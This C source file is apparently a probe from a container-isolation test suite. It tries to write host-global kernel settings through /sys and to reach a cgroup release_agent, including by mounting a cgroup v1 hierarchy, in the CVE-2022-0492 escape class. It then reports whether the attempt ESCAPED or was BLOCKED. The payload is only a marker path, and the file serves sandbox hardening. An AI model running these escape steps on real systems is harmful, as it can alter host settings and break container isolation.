/* Write host-global settings through /sys and reach a cgroup
 * release_agent (CVE-2022-0492 class). */
#include "attack.h"

int main(void) {
    protocol_init("sys_write");
    const char *paths[] = {"/sys/kernel/rcu_expedited", "/sys/kernel/mm/transparent_hugepage/enabled",
                           "/sys/kernel/mm/ksm/run", "/sys/fs/cgroup/release_agent",
                           "/sys/fs/cgroup/memory/release_agent"};
    const char *values[] = {"1", "never", "1", "/tmp/atoll-attack-pwned", "/tmp/atoll-attack-pwned"};
    int written = 0;
    char errs[512] = "";
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
        int e = write_file(paths[i], values[i]);
        info("write %s: %s", paths[i], ename(e));
        if (e == 0) written++;
        if (i < 3 && !strstr(errs, ename(e))) {
            if (*errs) strcat(errs, "/");
            strcat(errs, ename(e));
        }
    }
    /* The release_agent escape mounts a cgroup v1 hierarchy first. */
    mkdir("/tmp/cg", 0755);
    long r = mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma");
    int me = r ? errno : 0;
    info("mount cgroup v1: %s", ename(me));
    if (r == 0) {
        int e = write_file("/tmp/cg/release_agent", "/tmp/atoll-attack-pwned");
        info("write release_agent: %s", ename(e));
        if (e == 0) written++;
        umount2("/tmp/cg", MNT_DETACH);
    }
    if (written)
        verdict("ESCAPED", "wrote %d host settings", written);
    else
        verdict("BLOCKED", "/sys writes refused (%s), cgroup mount refused (%s)", errs, ename(me));
    return 0;
}
